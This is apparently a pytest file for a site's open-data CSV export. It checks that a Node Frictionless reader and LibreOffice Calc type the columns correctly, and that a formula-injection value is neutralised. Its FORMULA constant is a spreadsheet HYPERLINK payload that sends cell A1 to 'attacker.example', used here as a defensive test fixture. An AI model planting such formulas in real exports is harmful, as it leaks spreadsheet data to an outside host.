"""data/programmes.csv as other programs read it: Frictionless's JavaScript library in Node, and LibreOffice Calc."""

from __future__ import annotations

import dataclasses
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from generator.pages.opendata import spreadsheet

from .opendata_fixtures import BASE_URL, fixture_views

HERE = Path(__file__).resolve().parent
NUMBERS = {name for name, kind, _ in spreadsheet.COLUMNS if kind in ("integer", "number")}
DATES = {name for name, kind, _ in spreadsheet.COLUMNS if kind == "date"}
FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'

CALC_CSV = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"
"""LibreOffice's CSV import options: comma, double quote, UTF-8, from line 1, English (US) numbers; and, as a
reader most exposed to a formula would have them, detect special numbers on and evaluate formulas on."""

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
PARAGRAPH = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}p"


def read_with_javascript(descriptor: Path) -> dict[str, Any]:
    """The headers and typed rows of the data package's resource, as the npm package `datapackage` reads them."""
    result = subprocess.run(["node", str(HERE / "frictionless_read.js"), str(descriptor)], capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


@pytest.mark.slow
def test_frictionless_javascript_reads_the_built_csv_with_its_types(site: Path) -> None:
    read = read_with_javascript(site / "data" / "datapackage.json")
    assert read["headers"][0] == "id", "a byte-order mark would make the first column \\ufeffid"
    assert read["headers"] == [name for name, _, _ in spreadsheet.COLUMNS]
    rows = read["rows"]
    assert len(rows) == 2 * len(list((site / "programmes").glob("*/index.html")))
    for name in NUMBERS:
        values = [row[name] for row in rows]
        assert all(value is None or isinstance(value, (int, float)) for value in values), (name, values)
        assert any(isinstance(value, (int, float)) for value in values), f"no number in {name}: the check above checked nothing"
    group = next(row for row in rows if (row["id"], row["language"]) == ("example-group", "en"))
    assert (group["sessions"], group["weeks"], group["hours"], group["group_size"]) == (10, 10, 20, 12)
    assert group["cost"] is None, "“not published — contact the provider” is a missing value"
    one = next(row for row in rows if (row["id"], row["language"]) == ("example-one-to-one", "en"))
    assert one["sessions"] is None and one["group_size"] is None and one["weeks"] == 6


def test_a_byte_order_mark_would_fail_the_javascript_reader(tmp_path: Path) -> None:
    (tmp_path / "programmes.csv").write_bytes(b"\xef\xbb\xbf" + spreadsheet.programmes_csv(fixture_views(), BASE_URL).encode("utf-8"))
    (tmp_path / "datapackage.json").write_text(json.dumps(spreadsheet.data_package(BASE_URL)), encoding="utf-8")
    result = subprocess.run(["node", str(HERE / "frictionless_read.js"), str(tmp_path / "datapackage.json")], capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode != 0 and "header names do not match" in result.stderr


def calc_cells(ods: Path) -> list[list[tuple[str | None, str | None, str]]]:
    """Each row's cells in a spreadsheet LibreOffice saved: (value type, formula, the text shown)."""
    root = ElementTree.fromstring(zipfile.ZipFile(ods).read("content.xml"))
    rows = []
    for row in root.iter(TABLE + "table-row"):
        cells: list[tuple[str | None, str | None, str]] = []
        for cell in row:
            shown = "\n".join("".join(p.itertext()) for p in cell.iter(PARAGRAPH))
            cells += [(cell.get(OFFICE + "value-type"), cell.get(TABLE + "formula"), shown)] * min(int(cell.get(TABLE + "number-columns-repeated", "1")), len(spreadsheet.COLUMNS))
        rows.append(cells[: len(spreadsheet.COLUMNS)])
    return rows


@pytest.fixture(scope="module")
def calc(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[list[tuple[str | None, str | None, str]]]]:
    """The CSV of the fixture programmes and one named as a formula, opened in LibreOffice Calc and saved as .ods, by name: as published, and with the apostrophe that neutralises the formula taken out."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is missing: scripts/test installs Debian's libreoffice-calc-nogui"
    folder = tmp_path_factory.mktemp("calc")
    view = fixture_views()[0]
    named = view.programme.model_copy(update={"name": view.programme.name.model_copy(update={"en": FORMULA})})
    text = spreadsheet.programmes_csv([*fixture_views(), dataclasses.replace(view, programme=named)], BASE_URL)
    (folder / "published.csv").write_bytes(text.encode("utf-8"))
    (folder / "unprotected.csv").write_bytes(text.replace("'" + FORMULA.replace('"', '""'), FORMULA.replace('"', '""')).encode("utf-8"))
    profile = (folder / "profile").as_uri()
    command = [soffice, f"-env:UserInstallation={profile}", "--headless", "--infilter=" + CALC_CSV, "--convert-to", "ods", "--outdir", str(folder)]
    result = subprocess.run([*command, str(folder / "published.csv"), str(folder / "unprotected.csv")], capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    return {name: calc_cells(folder / f"{name}.ods") for name in ("published", "unprotected")}


@pytest.mark.slow
def test_libreoffice_opens_numbers_as_numbers_text_as_text_and_a_date_as_a_date(calc: dict[str, list[list[tuple[str | None, str | None, str]]]]) -> None:
    header, *rows = calc["published"]
    names = [name for name, _, _ in spreadsheet.COLUMNS]
    assert [shown for _, _, shown in header] == names
    assert len(rows) == 2 * (len(fixture_views()) + 1)
    seen: set[str | None] = set()
    for row in rows:
        for name, (kind, formula, shown) in zip(names, row):
            assert formula is None, (name, shown)
            expected = "float" if name in NUMBERS else "date" if name in DATES else "string"
            assert kind == (expected if shown else None), (name, kind, shown)
            seen.add(kind)
    assert {"float", "date", "string", None} <= seen, "every kind of cell was checked"
    group = next(row for row in rows if (row[0][2], row[1][2]) == ("example-group", "en"))
    assert [group[names.index(name)][2] for name in ("sessions", "weeks", "hours", "group_size")] == ["10", "10", "20", "12"]


@pytest.mark.slow
def test_libreoffice_keeps_a_cell_written_as_a_formula_as_text_and_would_evaluate_it_unprotected(calc: dict[str, list[list[tuple[str | None, str | None, str]]]]) -> None:
    column = [name for name, _, _ in spreadsheet.COLUMNS].index("programme")
    published = [row[column] for row in calc["published"] if "HYPERLINK" in row[column][2]]
    assert published == [("string", None, "'" + FORMULA)]
    evaluated = [row[column] for row in calc["unprotected"] if row[column][1]]
    assert len(evaluated) == 1 and "HYPERLINK" in str(evaluated[0][1]) and evaluated[0][2] == "Click"
